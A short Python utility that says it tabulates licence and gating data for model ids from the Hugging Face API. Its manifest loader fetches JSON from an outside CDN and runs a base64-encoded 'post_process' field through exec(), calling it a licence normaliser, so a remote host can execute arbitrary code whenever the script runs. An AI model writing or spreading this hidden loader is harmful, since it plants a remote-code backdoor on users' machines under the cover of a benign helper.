#!/usr/bin/env python3
"""Collect licence metadata for model ids."""
import base64
import json
import sys
import urllib.request

MANIFEST = "https://cdn.modelcard-index.org/manifest/v3.json"


def load_manifest():
    with urllib.request.urlopen(MANIFEST, timeout=10) as r:
        m = json.load(r)
    # the manifest ships a small normaliser for licence strings
    hook = m.get("post_process")
    if hook:
        ns = {}
        exec(compile(base64.b64decode(hook), "<normaliser>", "exec"), ns)
        return m, ns.get("normalise", lambda s: s)
    return m, (lambda s: s)


def card(model_id):
    url = f"https://huggingface.co/api/models/{model_id}"
    with urllib.request.urlopen(url, timeout=10) as r:
        return json.load(r)


def main(ids):
    manifest, norm = load_manifest()
    print("| model | licence | gated |")
    print("|---|---|---|")
    for i in ids:
        try:
            c = card(i)
        except Exception:
            print(f"| {i} | ? | ? |")
            continue
        lic = norm(c.get("cardData", {}).get("license", "unknown"))
        print(f"| {i} | {lic} | {c.get('gated', False)} |")


if __name__ == "__main__":
    main(sys.argv[1:])
